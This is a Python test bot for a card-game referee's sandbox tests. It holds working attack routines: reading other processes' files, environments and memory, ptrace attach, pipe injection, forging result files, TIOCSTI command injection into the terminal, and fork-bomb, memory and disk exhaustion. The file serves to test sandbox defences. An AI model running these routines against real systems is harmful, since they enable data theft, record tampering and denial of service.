#!/usr/bin/env python3
"""A hostile bot for the sandbox tests (tests/slow/sandbox_attacks.rs).

    attack_bot.py MODE TAG [ARG...]

It plays exactly like sample-bots/python/random_bot.py (same generator, same seed), so a game
with it is move for move the game with a random bot, unless an attack works. At its first
request it tries MODE. When the attack gains something it says `GAINED: ...` on stderr and from
then on plays its last legal move instead, so the game's moves differ from the baseline's; when
it gains nothing it says `NOTHING: ...` and plays on as the random bot. Limit attacks (memory,
fork, disk, big-file) end in an exception or a kill: the referee names the fault.

TAG is only there to be on the command line of every process this bot starts, so the test can
find leftovers through /proc.
"""

import json
import os
import random
import signal
import socket
import sys
import time

MODE = sys.argv[1]
TAG = sys.argv[2]
ARGS = sys.argv[3:]
gained = []


def log(text):
    sys.stderr.write(text + "\n")
    sys.stderr.flush()


def send(message):
    sys.stdout.write(json.dumps(message) + "\n")
    sys.stdout.flush()


def pids():
    me = os.getpid()
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != me:
            yield int(name)


def cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return f.read().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        return ""


def foreign(pid):
    """A process that is not this bot's: the referee or another bot."""
    c = cmdline(pid)
    return "random_bot.py" in c or " play " in c or "tournament" in c or "tarneeb" in c.split(" ")[0]


def own_pipes():
    out = set()
    for fd in (0, 1, 2):
        try:
            out.add(os.readlink(f"/proc/self/fd/{fd}"))
        except OSError:
            pass
    return out


def try_read(path):
    try:
        with open(path, "rb") as f:
            return f.read(1 << 20)
    except OSError:
        return None


def attack_read_files():
    """The record and other seats' logs by path, and every regular file any process has open."""
    for path in ARGS:
        # "@PATH": a path the command must not name, so the sandbox does not bind it.
        path = path[1:] if path.startswith("@") else path
        data = try_read(path)
        if data is not None:
            gained.append(f"read {path} ({len(data)} bytes)")
    for top in (".", "/tmp"):
        for root, _dirs, files in os.walk(top):
            for f in files:
                if f.endswith(".jsonl") or f.endswith(".log"):
                    data = try_read(os.path.join(root, f)) or b""
                    if b'"type":"deal"' in data or b"random" in data:
                        gained.append(f"found a record or log at {os.path.join(root, f)}")
    for pid in [os.getppid(), *pids()]:
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            p = f"/proc/{pid}/fd/{fd}"
            try:
                if not os.path.isfile(p):
                    continue
            except OSError:
                continue
            data = try_read(p) or b""
            if b'"type":"deal"' in data and b'"hands"' in data:
                gained.append(f"read the deal through {p}")


def attack_pipes():
    mine = own_pipes()
    for pid in pids():
        for fd, how in ((1, os.O_WRONLY), (0, os.O_RDONLY)):
            p = f"/proc/{pid}/fd/{fd}"
            try:
                target = os.readlink(p)
            except OSError:
                continue
            if not target.startswith("pipe:") or target in mine:
                continue
            try:
                h = os.open(p, how | os.O_NONBLOCK)
            except OSError:
                continue
            try:
                if fd == 1:
                    os.write(h, b'{"type":"move","id":999999,"move":"XX"}\n')
                    gained.append(f"wrote into {p}")
                else:
                    data = os.read(h, 4096)
                    if data:
                        gained.append(f"stole {len(data)} bytes from {p}")
            except OSError:
                pass
            finally:
                os.close(h)


def attack_memory():
    secret = os.environ.get("TARNEEB_ATTACK_SECRET", "")
    for pid in pids():
        env = try_read(f"/proc/{pid}/environ") or b""
        if b"TARNEEB_ATTACK_SECRET" in env:
            gained.append(f"read the referee's environment through /proc/{pid}/environ")
        if not foreign(pid):
            continue
        try:
            with open(f"/proc/{pid}/maps") as m:
                first = m.readline().split()[0]
            start = int(first.split("-")[0], 16)
            with open(f"/proc/{pid}/mem", "rb") as mem:
                mem.seek(start)
                if mem.read(64):
                    gained.append(f"read the memory of {pid} ({cmdline(pid)[:60]})")
        except (OSError, ValueError, IndexError):
            pass
    if secret:
        gained.append("the referee's secret is in my own environment")


def attack_ptrace():
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    for pid in pids():
        if not foreign(pid):
            continue
        if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
            gained.append(f"attached to {pid} ({cmdline(pid)[:60]})")
            libc.ptrace(17, pid, None, None)  # PTRACE_DETACH


def attack_results():
    """Each file named, and every file under each directory named (a tournament directory the
    bot knows the place of, without its files being on the bot's command line). Reading counts
    only for files found: a file named on a bot's command line is shown to it read-only by
    design (its program's own files)."""
    paths = []
    for arg in ARGS:
        if os.path.isdir(arg):
            for root, _dirs, files in os.walk(arg):
                paths.extend((os.path.join(root, f), os.path.join(root, f) not in ARGS)
                             for f in files)
        elif os.path.lexists(arg):
            # (A path the bot's view lacks is no target: opening it to append would only make
            # a file of the bot's own.)
            paths.append((arg, False))
    for path, found in paths:
        if found and try_read(path):
            gained.append(f"read {path}")
        try:
            with open(path, "r+") as f:
                text = f.read()
                forged = text.replace('"winner":0', '"winner":1').replace('"winner":null', '"winner":1')
                f.seek(0)
                f.write(forged + '{"game": 0, "torn')
            gained.append(f"rewrote {path}")
        except OSError:
            pass
        try:
            with open(path, "a") as f:
                f.write("{}\n")
            gained.append(f"appended to {path}")
        except OSError:
            pass


def attack_tcp():
    port = int(ARGS[0])
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=2)
        s.sendall(b"hello from the sandbox\n")
        s.close()
        gained.append(f"connected to 127.0.0.1:{port}")
    except OSError as e:
        log(f"connect: {e}")


def attack_setsid():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            os.closerange(0, 3)
            time.sleep(100000)
        os._exit(0)


def attack_tty():
    # The referee's terminal: open it, push a command into its input (TIOCSTI), write to it.
    import fcntl
    import termios
    try:
        fd = os.open("/dev/tty", os.O_RDWR)
    except OSError as e:
        log(f"open /dev/tty: {e}")
        return
    gained.append("opened /dev/tty")
    try:
        for ch in b"echo PWNED\n":
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
        gained.append("TIOCSTI into the terminal")
    except OSError as e:
        log(f"TIOCSTI: {e}")
    os.close(fd)


def attack_memory_hog():
    hog = []
    while True:
        hog.append(b"\x01" * (1 << 20))


def attack_fork_bomb():
    while True:
        if os.fork() == 0:
            os.closerange(0, 3)
            time.sleep(100000)
            os._exit(0)


def attack_disk_fill():
    with open("attack-fill.bin", "wb") as f:
        while True:
            f.write(b"\x02" * (1 << 20))
            f.flush()


def attack_big_file():
    with open("/tmp/attack-big.bin", "wb") as f:
        while True:
            f.write(b"\x03" * (1 << 20))
            f.flush()


def report_identity():
    """Who the bot runs as and whether its scratch places take a file (tests/slow/sandbox_user.rs)."""
    wrote = []
    for place in (".", "/tmp", "/dev/shm"):
        try:
            with open(os.path.join(place, "identity-probe"), "w") as f:
                f.write("x")
            wrote.append(place)
        except OSError as e:
            log(f"cannot write in {place}: {e}")
    log(f"IDENTITY uid={os.getuid()} euid={os.geteuid()} gid={os.getgid()} "
        f"groups={','.join(map(str, os.getgroups()))} wrote={','.join(wrote)}")


ATTACKS = {
    "none": lambda: None,
    "identity": report_identity,
    "read-files": attack_read_files,
    "pipes": attack_pipes,
    "memory": attack_memory,
    "ptrace": attack_ptrace,
    "results": attack_results,
    "tcp": attack_tcp,
    "setsid": attack_setsid,
    "tty": attack_tty,
    "ignore-term": lambda: None,
    "hang": lambda: None,
    "memory-hog": attack_memory_hog,
    "fork-bomb": attack_fork_bomb,
    "disk-fill": attack_disk_fill,
    "big-file": attack_big_file,
}


def main():
    if MODE in ("ignore-term", "hang"):
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        signal.signal(signal.SIGPIPE, signal.SIG_IGN)
    rng = random.Random()
    attacked = False
    for line in sys.stdin:
        message = json.loads(line)
        kind = message["type"]
        if kind == "hello":
            rng.seed(message["seat"])
            send({"type": "hello", "name": "attack-" + MODE, "version": "1"})
        elif kind == "request":
            if not attacked:
                attacked = True
                if MODE == "hang":
                    log("HANGING")
                    while True:
                        time.sleep(1000)
                ATTACKS[MODE]()
                log(("GAINED: " + "; ".join(gained)) if gained else f"NOTHING: {MODE}")
            legal = message["legal"]
            choice = rng.choice(legal)
            send({"type": "move", "id": message["id"], "move": legal[-1] if gained else choice})
        elif kind == "game_end":
            break
    if MODE == "ignore-term":
        # Outlive the game: neither end of input nor SIGTERM ends this process.
        while True:
            time.sleep(1000)


if __name__ == "__main__":
    main()
